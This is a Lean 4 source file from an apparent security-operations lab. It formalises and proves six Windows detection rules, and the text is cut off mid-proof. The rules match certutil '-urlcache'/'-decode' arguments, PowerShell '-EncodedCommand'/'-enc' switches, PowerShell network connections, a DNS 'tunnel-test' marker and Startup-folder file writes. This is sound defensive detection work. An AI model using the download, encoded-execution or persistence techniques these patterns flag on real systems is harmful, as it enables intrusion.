import SocLab.Alerts.Triage
import SocLab.Models.RuleDocument

/-!
# SocLab.Rules.Windows — the rules of `rules/windows`

The documents of the six rule files, the rules that they are validated to, and what these detect.

* `modelValidate_documents`: the documents are validated to the rules.
* `Triggers`: the raw events that each rule is about, in the terms of Windows.
* `windowsRules_exact`: what the library detects in an event text, at most one rule of them.
-/

namespace SocLab

open Py Py.Validation Logic

namespace WindowsRules

/-! ### The documents -/

/-- A node that compares a field. -/
def leafDocument (field op : String) (value : Value) : Value :=
  .dict [("field", .str field), ("op", .str op), ("value", value)]

/-- What a rule says of itself. -/
structure Heading where
  id : String
  title : String
  description : String
  slug_id : slug.fullmatch id.toList = true
  nonBlank_title : NonBlank title
  nonBlank_description : NonBlank description

theorem nonBlank_append {s t : String} (h : NonBlank s) : NonBlank (s ++ t) := by
  obtain ⟨c, hc, hspace⟩ := h
  exact ⟨c, by simp [hc], hspace⟩

/-- A document of version 1 for one category. -/
def document (heading : Heading) (category : String) (condition : Value) : Value :=
  .dict [("id", .str heading.id), ("version", .int 1), ("title", .str heading.title),
    ("description", .str heading.description), ("categories", .list [.str category]), ("condition", condition)]

/-- `account/failed-remote-authentication.yaml`. -/
def failedRemoteAuthenticationHeading : Heading where
  id := "failed-remote-authentication"
  title := "Failed network or remote-interactive authentication"
  description :=
    "Selects one failed authentication event with network logon type 3 or " ++
    "remote-interactive logon type 10. This is single-event triage, not " ++
    "brute-force detection; it does not count failures or correlate time windows."
  slug_id := by decide
  nonBlank_title := ⟨'F', by simp, rfl⟩
  nonBlank_description := nonBlank_append (nonBlank_append (⟨'S', by simp, rfl⟩))

/-- `account/failed-remote-authentication.yaml`, as a document. -/
def failedRemoteAuthenticationDocument : Value :=
  document failedRemoteAuthenticationHeading "authentication"
    (.dict [("all", .list [leafDocument "context.outcome" "equals" (.str "failure"),
      leafDocument "context.logon_type" "in" (.list [.int 3, .int 10])])])

/-- `execution/certutil-suspicious-arguments.yaml`. -/
def certutilSuspiciousArgumentsHeading : Heading where
  id := "certutil-suspicious-arguments"
  title := "Certutil transfer or decode argument"
  description :=
    "Selects certutil.exe process events containing the space-delimited " ++
    "-urlcache or -decode argument. Matching is case-sensitive. These transparent " ++
    "transfer/decode-style markers are demonstration triage signals; legitimate " ++
    "administration can use them and a match does not establish maliciousness."
  slug_id := by decide
  nonBlank_title := ⟨'C', by simp, rfl⟩
  nonBlank_description := nonBlank_append (nonBlank_append (nonBlank_append (⟨'S', by simp, rfl⟩)))

/-- `execution/certutil-suspicious-arguments.yaml`, as a document. -/
def certutilSuspiciousArgumentsDocument : Value :=
  document certutilSuspiciousArgumentsHeading "process"
    (.dict [("all", .list [leafDocument "context.image" "ends_with" (.str "\\certutil.exe"),
      leafDocument "context.command_line" "contains_any" (.list [.str " -urlcache ", .str " -decode "])])])

/-- `execution/powershell-encoded-command.yaml`. -/
def powershellEncodedCommandHeading : Heading where
  id := "powershell-encoded-command"
  title := "PowerShell encoded-command argument"
  description :=
    "Selects a PowerShell-family process with an explicit encoded-command " ++
    "argument marker. Image suffixes and the space-delimited -EncodedCommand, " ++
    "-encodedcommand, and -enc markers are case-sensitive. This demonstration " ++
    "triage signal neither decodes the argument nor proves maliciousness."
  slug_id := by decide
  nonBlank_title := ⟨'P', by simp, rfl⟩
  nonBlank_description := nonBlank_append (nonBlank_append (nonBlank_append (⟨'S', by simp, rfl⟩)))

/-- `execution/powershell-encoded-command.yaml`, as a document. -/
def powershellEncodedCommandDocument : Value :=
  document powershellEncodedCommandHeading "process"
    (.dict [("all", .list [
      .dict [("any", .list [leafDocument "context.image" "ends_with" (.str "\\powershell.exe"),
        leafDocument "context.image" "ends_with" (.str "\\pwsh.exe")])],
      leafDocument "context.command_line" "contains_any"
        (.list [.str " -EncodedCommand ", .str " -encodedcommand ", .str " -enc "])])])

/-- `network/dns-suspicious-query-marker.yaml`. -/
def dnsSuspiciousQueryMarkerHeading : Heading where
  id := "dns-suspicious-query-marker"
  title := "DNS demonstration query marker"
  description :=
    "Selects a DNS query containing the literal case-sensitive tunnel-test " ++
    "marker. This illustrates a single-event textual signal with synthetic " ++
    "data, not general DNS-tunneling detection or a maliciousness verdict. " ++
    "It does not measure frequency, entropy, label length, or volume."
  slug_id := by decide
  nonBlank_title := ⟨'D', by simp, rfl⟩
  nonBlank_description := nonBlank_append (nonBlank_append (nonBlank_append (⟨'S', by simp, rfl⟩)))

/-- `network/dns-suspicious-query-marker.yaml`, as a document. -/
def dnsSuspiciousQueryMarkerDocument : Value :=
  document dnsSuspiciousQueryMarkerHeading "dns"
    (leafDocument "context.query_name" "contains" (.str "tunnel-test"))

/-- `network/powershell-network-connection.yaml`. -/
def powershellNetworkConnectionHeading : Heading where
  id := "powershell-network-connection"
  title := "PowerShell-associated network connection"
  description :=
    "Selects a network event whose process image has a case-sensitive " ++
    "PowerShell-family suffix. This broad educational triage signal does not " ++
    "infer connection direction, classify destinations, or establish maliciousness."
  slug_id := by decide
  nonBlank_title := ⟨'P', by simp, rfl⟩
  nonBlank_description := nonBlank_append (nonBlank_append (⟨'S', by simp, rfl⟩))

/-- `network/powershell-network-connection.yaml`, as a document. -/
def powershellNetworkConnectionDocument : Value :=
  document powershellNetworkConnectionHeading "network"
    (.dict [("any", .list [leafDocument "context.process_image" "ends_with" (.str "\\powershell.exe"),
      leafDocument "context.process_image" "ends_with" (.str "\\pwsh.exe")])])

/-- `persistence/startup-folder-file-activity.yaml`. -/
def startupFolderFileActivityHeading : Heading where
  id := "startup-folder-file-activity"
  title := "Startup-folder file activity"
  description :=
    "Selects a file event targeting the literal case-sensitive Windows " ++
    "Start Menu\\Programs\\Startup path fragment. This is persistence-relevant " ++
    "triage behavior, not proof of persistence, execution, or maliciousness."
  slug_id := by decide
  nonBlank_title := ⟨'S', by simp, rfl⟩
  nonBlank_description := nonBlank_append (nonBlank_append (⟨'S', by simp, rfl⟩))

/-- `persistence/startup-folder-file-activity.yaml`, as a document. -/
def startupFolderFileActivityDocument : Value :=
  document startupFolderFileActivityHeading "file"
    (leafDocument "context.target_path" "contains" (.str "\\Start Menu\\Programs\\Startup\\"))

/-- The documents of `rules/windows`. -/
def documents : List Value :=
  [failedRemoteAuthenticationDocument, certutilSuspiciousArgumentsDocument, powershellEncodedCommandDocument,
    dnsSuspiciousQueryMarkerDocument, powershellNetworkConnectionDocument, startupFolderFileActivityDocument]

/-! ### The rules -/

/-- The fields of a rule of version 1 for one category. -/
def ruleFields (heading : Heading) (category : EventCategory) (condition : WellFormedNode) : RuleFields where
  id := heading.id
  version := ⟨1, Int.one_pos⟩
  title := heading.title
  description := heading.description
  categories := ⟨[category], le_rfl⟩
  sources := .unset
  condition := condition

/-- The fields of a rule are valid when its condition is within the bounds and reads no retained data. -/
theorem validateRule_ruleFields {heading : Heading} {category : EventCategory} {c : WellFormedNode}
    (hbounds : c.val.depth ≤ 8 ∧ c.val.leaves.length ≤ 64) (hscope : c.val.usesSourceData = false) :
    validateRule (ruleFields heading category c) = ok () := by
  refine validateRule_iff.mpr ⟨heading.slug_id, ⟨heading.nonBlank_title, heading.nonBlank_description⟩,
    List.nodup_singleton category, nofun, nofun, hbounds, fun h => ?_⟩
  exact absurd ((ConditionNode.usesSourceData_iff _).mpr h) (Bool.eq_false_iff.mp hscope)

/-- `failed-remote-authentication`: the outcome and the type of the logon. -/
def failedOutcome : LeafCondition := ⟨"context.outcome", .equals, .set (.str "failure"), by decide⟩

/-- The network logon or the remote-interactive one. -/
def remoteLogonType : LeafCondition := ⟨"context.logon_type", .in_, .set (.list [.int 3, .int 10]), by decide⟩

/-- The rule of a failed remote logon. -/
def failedRemoteAuthentication : DetectionRule where
  toRuleFields := ruleFields failedRemoteAuthenticationHeading .authentication
    ⟨.all [.leaf failedOutcome, .leaf remoteLogonType], by
      simp [ConditionNode.WellFormed, ConditionNode.AllWellFormed]⟩
  valid := validateRule_ruleFields (by decide) (by decide)

/-- `certutil-suspicious-arguments`: the image and an argument. -/
def certutilImage : LeafCondition := ⟨"context.image", .endsWith, .set (.str "\\certutil.exe"), by decide⟩

/-- One of the markers of `certutil`. -/
def transferArgument : LeafCondition :=
  ⟨"context.command_line", .containsAny, .set (.list [.str " -urlcache ", .str " -decode "]), by decide⟩

/-- The rule of a suspicious `certutil`. -/
def certutilSuspiciousArguments : DetectionRule where
  toRuleFields := ruleFields certutilSuspiciousArgumentsHeading .process
    ⟨.all [.leaf certutilImage, .leaf transferArgument], by
      simp [ConditionNode.WellFormed, ConditionNode.AllWellFormed]⟩
  valid := validateRule_ruleFields (by decide) (by decide)

/-- `powershell-encoded-command`: one of two images and an argument. -/
def powershellImage : LeafCondition := ⟨"context.image", .endsWith, .set (.str "\\powershell.exe"), by decide⟩

/-- The image of the newer PowerShell. -/
def pwshImage : LeafCondition := ⟨"context.image", .endsWith, .set (.str "\\pwsh.exe"), by decide⟩

/-- One of the spellings of the switch. -/
def encodedArgument : LeafCondition :=
  ⟨"context.command_line", .containsAny,
    .set (.list [.str " -EncodedCommand ", .str " -encodedcommand ", .str " -enc "]), by decide⟩

/-- The rule of an encoded command. -/
def powershellEncodedCommand : DetectionRule where
  toRuleFields := ruleFields powershellEncodedCommandHeading .process
    ⟨.all [.any [.leaf powershellImage, .leaf pwshImage], .leaf encodedArgument], by
      simp [ConditionNode.WellFormed, ConditionNode.AllWellFormed]⟩
  valid := validateRule_ruleFields (by decide) (by decide)

/-- `dns-suspicious-query-marker`: the marker in the query. -/
def queryMarker : LeafCondition := ⟨"context.query_name", .contains, .set (.str "tunnel-test"), by decide⟩

/-- The rule of a DNS query. -/
def dnsSuspiciousQueryMarker : DetectionRule where
  toRuleFields := ruleFields dnsSuspiciousQueryMarkerHeading .dns ⟨.leaf queryMarker, by
    simp [ConditionNode.WellFormed]⟩
  valid := validateRule_ruleFields (by decide) (by decide)

/-- `powershell-network-connection`: one of two images of the connecting process. -/
def powershellProcess : LeafCondition :=
  ⟨"context.process_image", .endsWith, .set (.str "\\powershell.exe"), by decide⟩

/-- The process of the newer PowerShell. -/
def pwshProcess : LeafCondition := ⟨"context.process_image", .endsWith, .set (.str "\\pwsh.exe"), by decide⟩

/-- The rule of a connection that PowerShell makes. -/
def powershellNetworkConnection : DetectionRule where
  toRuleFields := ruleFields powershellNetworkConnectionHeading .network
    ⟨.any [.leaf powershellProcess, .leaf pwshProcess], by
      simp [ConditionNode.WellFormed, ConditionNode.AllWellFormed]⟩
  valid := validateRule_ruleFields (by decide) (by decide)

/-- `startup-folder-file-activity`: the folder in the path. -/
def startupPath : LeafCondition :=
  ⟨"context.target_path", .contains, .set (.str "\\Start Menu\\Programs\\Startup\\"), by decide⟩

/-- The rule of the startup folder. -/
def startupFolderFileActivity : DetectionRule where
  toRuleFields := ruleFields startupFolderFileActivityHeading .file ⟨.leaf startupPath, by
    simp [ConditionNode.WellFormed]⟩
  valid := validateRule_ruleFields (by decide) (by decide)

/-- The rules of the library. -/
def windowsRules : List DetectionRule :=
  [failedRemoteAuthentication, certutilSuspiciousArguments, powershellEncodedCommand, dnsSuspiciousQueryMarker,
    powershellNetworkConnection, startupFolderFileActivity]

section Validate

variable {heading : Heading} {category : EventCategory} {x : Value}

theorem nodeDocument_leaf {l : LeafCondition} {v : Value} (hv : l.value = .set v) :
    NodeDocument (leafDocument l.field (StrEnum.value l.op) v) (.leaf l) := by
  obtain ⟨field, op, value, valid⟩ := l
  obtain rfl : value = .set v := hv
  obtain ⟨hpath, hshape⟩ := validateLeaf_iff.mp valid
  rcases hshape with ⟨hunset, -⟩ | ⟨v', hset, hshape⟩
  · cases hunset
  · cases hset
    exact .comparison hpath hshape (List.Perm.refl _)

@[simp] theorem isDocument_leafDocument {field op : String} {v : Value} :
    (leafDocument field op v).IsDocument ↔ v.IsDocument := by
  simp [leafDocument]

theorem isDocument_document (hx : x.IsDocument) : (document heading (StrEnum.value category) x).IsDocument := by
  simp [document, hx]

/-- The document of a rule is validated to the rule. -/
theorem modelValidate_document (heading : Heading) (category : EventCategory) {r : DetectionRule}
    {c : WellFormedNode} (hr : r.toRuleFields = ruleFields heading category c) (hx : x.IsDocument)
    (hc : NodeDocument x c.val) :
    DetectionRule.modelValidate (document heading (StrEnum.value category) x) = ok r := by
  obtain ⟨f, valid⟩ := r
  obtain rfl : f = ruleFields heading category c := hr
  obtain ⟨hid, ⟨htitle, hdescription⟩, hcategories, -, -, hbounds, hscope⟩ := validateRule_iff.mp valid
  refine (DetectionRule.modelValidate_iff (isDocument_document hx)).mpr ⟨_, rfl, ?_⟩
  refine ⟨?_, ⟨rfl, hid⟩, rfl, ⟨rfl, htitle⟩, ⟨rfl, hdescription⟩, ⟨rfl, hcategories⟩, Or.inl ⟨rfl, rfl⟩,
    ⟨x, rfl, hc⟩, hbounds, fun h => ?_⟩
  · simp [Dict.keys, DetectionRule.fieldNames]
  · obtain ⟨l, hl⟩ := hscope h
    cases hl

/-- **The documents are validated to the rules.** -/
theorem modelValidate_documents :
    List.Forall₂ (fun d r => DetectionRule.modelValidate d = ok r) documents windowsRules := by
  have hfailed : DetectionRule.modelValidate failedRemoteAuthenticationDocument = ok failedRemoteAuthentication :=
    modelValidate_document failedRemoteAuthenticationHeading .authentication rfl (by simp)
      (.all (by simp) (.cons (nodeDocument_leaf (l := failedOutcome) rfl)
        (.cons (nodeDocument_leaf (l := remoteLogonType) rfl) .nil)))
  have hcertutil : DetectionRule.modelValidate certutilSuspiciousArgumentsDocument =
      ok certutilSuspiciousArguments :=
    modelValidate_document certutilSuspiciousArgumentsHeading .process rfl (by simp)
      (.all (by simp) (.cons (nodeDocument_leaf (l := certutilImage) rfl)
        (.cons (nodeDocument_leaf (l := transferArgument) rfl) .nil)))
  have himages : NodeDocument
      (.dict [("any", .list [leafDocument "context.image" "ends_with" (.str "\\powershell.exe"),
        leafDocument "context.image" "ends_with" (.str "\\pwsh.exe")])])
      (.any [.leaf powershellImage, .leaf pwshImage]) :=
    .any (by simp) (.cons (nodeDocument_leaf (l := powershellImage) rfl)
      (.cons (nodeDocument_leaf (l := pwshImage) rfl) .nil))
  have hpowershell : DetectionRule.modelValidate powershellEncodedCommandDocument = ok powershellEncodedCommand :=
    modelValidate_document powershellEncodedCommandHeading .process rfl (by simp)
      (.all (by simp) (.cons himages (.cons (nodeDocument_leaf (l := encodedArgument) rfl) .nil)))
  have hdns : DetectionRule.modelValidate dnsSuspiciousQueryMarkerDocument = ok dnsSuspiciousQueryMarker :=
    modelValidate_document dnsSuspiciousQueryMarkerHeading .dns rfl (by simp)
      (nodeDocument_leaf (l := queryMarker) rfl)
  have hnetwork : DetectionRule.modelValidate powershellNetworkConnectionDocument =
      ok powershellNetworkConnection :=
    modelValidate_document powershellNetworkConnectionHeading .network rfl (by simp)
      (.any (by simp) (.cons (nodeDocument_leaf (l := powershellProcess) rfl)
        (.cons (nodeDocument_leaf (l := pwshProcess) rfl) .nil)))
  have hstartup : DetectionRule.modelValidate startupFolderFileActivityDocument = ok startupFolderFileActivity :=
    modelValidate_document startupFolderFileActivityHeading .file rfl (by simp)
      (nodeDocument_leaf (l := startupPath) rfl)
  exact .cons hfailed (.cons hcertutil (.cons hpowershell (.cons hdns (.cons hnetwork (.cons hstartup .nil)))))

end Validate

/-! ### What the rules detect -/

/-- An event of the Security log. -/
def FromSecurity (raw : RawWindowsEvent) (eventId : Int) : Prop :=
  raw.provider.val = windowsSecurityProvider ∧ raw.channel.val = "Security" ∧ raw.eventId.val = eventId

/-- An event of the Sysmon log. -/
def FromSysmon (raw : RawWindowsEvent) (eventId : Int) : Prop :=
  raw.provider.val = sysmonProvider ∧ raw.channel.val = "Microsoft-Windows-Sysmon/Operational" ∧
    raw.eventId.val = eventId

/-- The text of a named value, without surrounding white space. -/
def namedText (raw : RawWindowsEvent) (name : String) : Option String :=
  EventData.optionalText (raw.eventDataDict.get name)

/-- A process was started with the image and the command line: audit event 4688 or Sysmon event 1. -/
inductive StartsProcess (raw : RawWindowsEvent) (image command : String) : Prop
  | audit : FromSecurity raw 4688 → namedText raw "NewProcessName" = some image →
      namedText raw "CommandLine" = some command → StartsProcess raw image command
  | sysmon : FromSysmon raw 1 → namedText raw "Image" = some image →
      namedText raw "CommandLine" = some command → StartsProcess raw image command

/-- The text ends with `t`. -/
def EndsWith (text t : String) : Prop := t.toList <:+ text.toList

/-- The text contains `t`. -/
def Contains (text t : String) : Prop := t.toList <:+: text.toList

/-- The image of PowerShell. -/
def IsPowershell (image : String) : Prop := EndsWith image "\\powershell.exe" ∨ EndsWith image "\\pwsh.exe"

/-- The events that the rules are about, by the ids of the rules. -/
inductive Triggers (raw : RawWindowsEvent) : String → Prop
  | failedRemoteAuthentication {text : String} {n : Int} : FromSecurity raw 4625 →
      namedText raw "LogonType" = some text → int text 10 = .ok n → n = 3 ∨ n = 10 →
      Triggers raw "failed-remote-authentication"
  | certutilSuspiciousArguments {image command : String} : StartsProcess raw image command →
      EndsWith image "\\certutil.exe" → (∃ t ∈ [" -urlcache ", " -decode "], Contains command t) →
      Triggers raw "certutil-suspicious-arguments"
  | powershellEncodedCommand {image command : String} : StartsProcess raw image command → IsPowershell image →
      (∃ t ∈ [" -EncodedCommand ", " -encodedcommand ", " -enc "], Contains command t) →
      Triggers raw "powershell-encoded-command"
  | dnsSuspiciousQueryMarker {query : String} : FromSysmon raw 22 → namedText raw "QueryName" = some query →
      Contains query "tunnel-test" → Triggers raw "dns-suspicious-query-marker"
  | powershellNetworkConnection {image : String} : FromSysmon raw 3 → namedText raw "Image" = some image →
      IsPowershell image → Triggers raw "powershell-network-connection"
  | startupFolderFileActivity {path : String} : FromSysmon raw 11 → namedText raw "TargetFilename" = some path →
      Contains path "\\Start Menu\\Programs\\Startup\\" → Triggers raw "startup-folder-file-activity"

section Detect

variable {row row' : Row} {raw : RawWindowsEvent}

/-- The event id decides the row. -/
theorem row_eq (hrow : row ∈ supportedRows) (hrow' : row' ∈ supportedRows) (hid : row.eventId = row'.eventId) :
    row = row' := by
  have hids : (supportedRows.map (·.eventId)).Nodup := by decide
  exact List.inj_on_of_nodup_map hids hrow hrow' hid

/-- A rule for one category and no source detects what its condition is true of in the rows of the category. -/
theorem detects_iff {heading : Heading} {category : EventCategory} {r : DetectionRule} {c : WellFormedNode}
    (hr : r.toRuleFields = ruleFields heading category c) {p : Prop} (hrow : row ∈ supportedRows)
    (hraw : row.Matches raw)
    (hverdict : ∀ row ∈ supportedRows, row.category = category → row.Matches raw →
      (row.verdict raw c.val = .true ↔ p))
    (hp : p → ∃ row ∈ supportedRows, row.category = category ∧ row.Matches raw) : row.Detects raw r ↔ p := by
  have hcategories : r.categories = ⟨[category], le_rfl⟩ := by rw [hr]; rfl
  have hsources : r.sourceList = none := by rw [RuleFields.sourceList, hr]; rfl
  have hcondition : r.condition = c := by rw [hr]; rfl
  rw [Row.Detects, hcategories, hsources, hcondition]
  constructor
  · rintro ⟨hcategory, -, htrue⟩
    exact (hverdict row hrow (List.mem_singleton.mp hcategory) hraw).mp htrue
  · intro h
    obtain ⟨row', hrow', hcategory, hraw'⟩ := hp h
    obtain rfl := row_eq hrow hrow' (hraw.2.2.symm.trans hraw'.2.2)
    have htrue := (hverdict row hrow hcategory hraw).mpr h
    exact ⟨List.mem_singleton.mpr hcategory, by simp, htrue⟩

/-- A leaf that asks for the end of a text. -/
theorem verdict_endsWith {l : LeafCondition} {key t : String} {c : Column}
    (hpath : FieldPath row.category l.field .string) (hsplit : split l.field '.' = ["context", key])
    (hkey : key ≠ "outcome") (hc : row.columns.find? (·.key == key) = some c) (hkind : c.kind = .text)
    (hop : l.op = .endsWith) (hvalue : l.value = .set (.str t)) :
    row.verdict raw (.leaf l) = .true ↔ ∃ text, namedText raw c.name = some text ∧ EndsWith text t := by
  have hvalues : l.operandValues = [t].map .str := by rw [LeafCondition.operandValues, hvalue]; rfl
  rw [Row.verdict_text hpath hsplit hkey hc rfl hkind (by rw [hop]; decide) hvalues, hop]
  simp [namedText, EndsWith, DetectionOperator.Relates]

/-- A leaf that asks for a part of a text. -/
theorem verdict_contains {l : LeafCondition} {key t : String} {c : Column}
    (hpath : FieldPath row.category l.field .string) (hsplit : split l.field '.' = ["context", key])
    (hkey : key ≠ "outcome") (hc : row.columns.find? (·.key == key) = some c) (hkind : c.kind = .text)
    (hop : l.op = .contains) (hvalue : l.value = .set (.str t)) :
    row.verdict raw (.leaf l) = .true ↔ ∃ text, namedText raw c.name = some text ∧ Contains text t := by
  have hvalues : l.operandValues = [t].map .str := by rw [LeafCondition.operandValues, hvalue]; rfl
  rw [Row.verdict_text hpath hsplit hkey hc rfl hkind (by rw [hop]; decide) hvalues, hop]
  simp [namedText, Contains, DetectionOperator.Relates]

/-- A leaf that asks for one of some parts. -/
theorem verdict_containsAny {l : LeafCondition} {key : String} {ts : List String} {c : Column}
    (hpath : FieldPath row.category l.field .string) (hsplit : split l.field '.' = ["context", key])
    (hkey : key ≠ "outcome") (hc : row.columns.find? (·.key == key) = some c) (hkind : c.kind = .text)
    (hop : l.op = .containsAny) (hvalue : l.value = .set (.list (ts.map .str))) :
    row.verdict raw (.leaf l) = .true ↔
      ∃ text, namedText raw c.name = some text ∧ ∃ t ∈ ts, Contains text t := by
  have hvalues : l.operandValues = ts.map .str := by rw [LeafCondition.operandValues, hvalue]; rfl
  rw [Row.verdict_text hpath hsplit hkey hc rfl hkind (by rw [hop]; decide) hvalues, hop]
  simp [namedText, Contains, DetectionOperator.Relates]

/-- A condition that asks for the image of PowerShell. -/
theorem verdict_powershell {l l' : LeafCondition} {key : String} {c : Column}
    (hpath : FieldPath row.category l.field .string) (hsplit : split l.field '.' = ["context", key])
    (hkey : key ≠ "outcome") (hc : row.columns.find? (·.key == key) = some c) (hkind : c.kind = .text)
    (hop : l.op = .endsWith) (hvalue : l.value = .set (.str "\\powershell.exe")) (hfield : l'.field = l.field)
    (hop' : l'.op = .endsWith) (hvalue' : l'.value = .set (.str "\\pwsh.exe")) :
    row.verdict raw (.any [.leaf l, .leaf l']) = .true ↔
      ∃ image, namedText raw c.name = some image ∧ IsPowershell image := by
  have hleaf := @verdict_endsWith row raw l _ _ _ hpath hsplit hkey hc hkind hop hvalue
  have hleaf' := @verdict_endsWith row raw l' _ _ _ (hfield ▸ hpath) (hfield ▸ hsplit) hkey hc hkind hop' hvalue'
  rw [Row.verdict_any]
  simp only [List.mem_cons, List.not_mem_nil, or_false, exists_eq_or_imp, exists_eq_left, hleaf, hleaf',
    IsPowershell]
  rw [← exists_or]
  simp only [and_or_left]

/-- The columns of the image and of the command line of a started process. -/
theorem process_columns (hrow : row ∈ supportedRows) (hcategory : row.category = .process)
    (hraw : row.Matches raw) : ∃ ci cc, row.columns.find? (·.key == "image") = some ci ∧ ci.kind = .text ∧
      row.columns.find? (·.key == "command_line") = some cc ∧ cc.kind = .text ∧
      ∀ image command, StartsProcess raw image command ↔
        namedText raw ci.name = some image ∧ namedText raw cc.name = some command := by
  simp only [supportedRows, WindowsSecurity.rows, Sysmon.rows, List.mem_append, List.mem_cons, List.not_mem_nil,
    or_false] at hrow
  rcases hrow with (rfl | rfl | rfl) | rfl | rfl | rfl | rfl
  · cases hcategory
  · cases hcategory
  · refine ⟨_, _, rfl, rfl, rfl, rfl, fun image command => ⟨?_, fun h => .audit hraw h.1 h.2⟩⟩
    rintro (⟨-, himage, hcommand⟩ | ⟨hfrom, -, -⟩)
    · exact ⟨himage, hcommand⟩
    · exact absurd (hraw.2.2.symm.trans hfrom.2.2) (by decide)
  · refine ⟨_, _, rfl, rfl, rfl, rfl, fun image command => ⟨?_, fun h => .sysmon hraw h.1 h.2⟩⟩
    rintro (⟨hfrom, -, -⟩ | ⟨-, himage, hcommand⟩)
    · exact absurd (hraw.2.2.symm.trans hfrom.2.2) (by decide)
    · exact ⟨himage, hcommand⟩
  · cases hcategory
  · cases hcategory
  · cases hcategory

/-- A started process is an event of a row. -/
theorem StartsProcess.exists_row {image command : String} (h : StartsProcess raw image command) :
    ∃ row ∈ supportedRows, row.category = .process ∧ row.Matches raw := by
  rcases h with ⟨hfrom, -, -⟩ | ⟨hfrom, -, -⟩
  · exact ⟨WindowsSecurity.processRow, by simp [supportedRows, WindowsSecurity.rows], rfl, hfrom⟩
  · exact ⟨Sysmon.row 1 .process Sysmon.processColumns Sysmon.processFields, by simp [supportedRows, Sysmon.rows],
      rfl, hfrom⟩

/-- A process rule is about the image and the command line of a started process. -/
theorem verdict_process (hrow : row ∈ supportedRows) (hcategory : row.category = .process)
    (hraw : row.Matches raw) {image command : ConditionNode} {p q : String → Prop}
    (himage : ∀ c, row.columns.find? (·.key == "image") = some c → c.kind = .text →
      (row.verdict raw image = .true ↔ ∃ text, namedText raw c.name = some text ∧ p text))
    (hcommand : ∀ c, row.columns.find? (·.key == "command_line") = some c → c.kind = .text →
      (row.verdict raw command = .true ↔ ∃ text, namedText raw c.name = some text ∧ q text)) :
    row.verdict raw (.all [image, command]) = .true ↔
      ∃ image command, StartsProcess raw image command ∧ p image ∧ q command := by
  obtain ⟨ci, cc, hi, hitext, hc, hctext, hstarts⟩ := process_columns hrow hcategory hraw
  rw [Row.verdict_all, List.forall_mem_cons, List.forall_mem_singleton, himage ci hi hitext, hcommand cc hc hctext]
  constructor
  · rintro ⟨⟨image, himage, hp⟩, command, hcommand, hq⟩
    exact ⟨image, command, (hstarts image command).mpr ⟨himage, hcommand⟩, hp, hq⟩
  · rintro ⟨image, command, hevent, hp, hq⟩
    obtain ⟨himage, hcommand⟩ := (hstarts image command).mp hevent
    exact ⟨⟨image, himage, hp⟩, command, hcommand, hq⟩

theorem detects_certutil (hrow : row ∈ supportedRows) (hraw : row.Matches raw) :
    row.Detects raw certutilSuspiciousArguments ↔ ∃ image command, StartsProcess raw image command ∧
      EndsWith image "\\certutil.exe" ∧ ∃ t ∈ [" -urlcache ", " -decode "], Contains command t := by
  refine @detects_iff _ _ _ _ _ certutilSuspiciousArguments.condition rfl _ hrow hraw
    (fun row hrow hcategory hraw => ?_) fun ⟨_, _, hstarts, _⟩ => hstarts.exists_row
  refine verdict_process hrow hcategory hraw (fun c hc htext => ?_) fun c hc htext => ?_
  · exact verdict_endsWith (l := certutilImage) (hcategory ▸ .context rfl rfl) rfl (by decide) hc htext rfl rfl
  · exact verdict_containsAny (l := transferArgument) (hcategory ▸ .context rfl rfl) rfl (by decide) hc htext
      rfl rfl

theorem detects_powershell (hrow : row ∈ supportedRows) (hraw : row.Matches raw) :
    row.Detects raw powershellEncodedCommand ↔ ∃ image command, StartsProcess raw image command ∧
      IsPowershell image ∧
        ∃ t ∈ [" -EncodedCommand ", " -encodedcommand ", " -enc "], Contains command t := by
  refine @detects_iff _ _ _ _ _ powershellEncodedCommand.condition rfl _ hrow hraw
    (fun row hrow hcategory hraw => ?_) fun ⟨_, _, hstarts, _⟩ => hstarts.exists_row
  refine verdict_process hrow hcategory hraw (fun c hc htext => ?_) fun c hc htext => ?_
  · exact @verdict_powershell _ _ powershellImage pwshImage _ _ (hcategory ▸ .context rfl rfl) rfl (by decide) hc
      htext rfl rfl rfl rfl rfl
  · exact verdict_containsAny (l := encodedArgument) (hcategory ▸ .context rfl rfl) rfl (by decide) hc htext
      rfl rfl

/-- A rule for the category of a single row is about the events of that row. -/
theorem detects_single {heading : Heading} {r : DetectionRule} {c : WellFormedNode}
    (hr : r.toRuleFields = ruleFields heading row'.category c) (hrow' : row' ∈ supportedRows)
    (hsingle : ∀ row ∈ supportedRows, row.category = row'.category → row.eventId = row'.eventId)
    (hrow : row ∈ supportedRows) (hraw : row.Matches raw) :
    row.Detects raw r ↔ row'.Matches raw ∧ row'.verdict raw c.val = .true := by
  refine detects_iff hr hrow hraw (fun row hrow hcategory hraw => ?_) fun h => ⟨row', hrow', rfl, h.1⟩
  obtain rfl := row_eq hrow hrow' (hsingle row hrow hcategory)
  exact (and_iff_right hraw).symm

theorem detects_dns (hrow : row ∈ supportedRows) (hraw : row.Matches raw) :
    row.Detects raw dnsSuspiciousQueryMarker ↔
      FromSysmon raw 22 ∧ ∃ query, namedText raw "QueryName" = some query ∧ Contains query "tunnel-test" := by
  have hrow' : Sysmon.row 22 .dns Sysmon.dnsColumns Sysmon.dnsFields ∈ supportedRows := by
    simp [supportedRows, Sysmon.rows]
  rw [detects_single (c := dnsSuspiciousQueryMarker.condition) rfl hrow' (by decide) hrow hraw]
  refine and_congr_right' ?_
  exact @verdict_contains _ _ queryMarker _ _ ⟨"QueryName", "query_name", .text, true⟩ (.context rfl rfl) rfl
    (by decide) rfl rfl rfl rfl

theorem detects_network (hrow : row ∈ supportedRows) (hraw : row.Matches raw) :
    row.Detects raw powershellNetworkConnection ↔
      FromSysmon raw 3 ∧ ∃ image, namedText raw "Image" = some image ∧ IsPowershell image := by
  have hrow' : Sysmon.row 3 .network Sysmon.networkColumns Sysmon.networkFields ∈ supportedRows := by
    simp [supportedRows, Sysmon.rows]
  rw [detects_single (c := powershellNetworkConnection.condition) rfl hrow' (by decide) hrow hraw]
  refine and_congr_right' ?_
  exact @verdict_powershell _ _ powershellProcess pwshProcess _ ⟨"Image", "process_image", .text, false⟩
    (.context rfl rfl) rfl (by decide) rfl rfl rfl rfl rfl rfl rfl

theorem detects_file (hrow : row ∈ supportedRows) (hraw : row.Matches raw) :
    row.Detects raw startupFolderFileActivity ↔
      FromSysmon raw 11 ∧ ∃ path, namedText raw "TargetFilename" = some path ∧
        Contains path "\\Start Menu\\Programs\\Startup\\" := by
  have hrow' : Sysmon.row 11 .file Sysmon.fileColumns Sysmon.fileFields ∈ supportedRows := by
    simp [supportedRows, Sysmon.rows]
  rw [detects_single (c := startupFolderFileActivity.condition) rfl hrow' (by decide) hrow hraw]
  refine and_congr_right' ?_
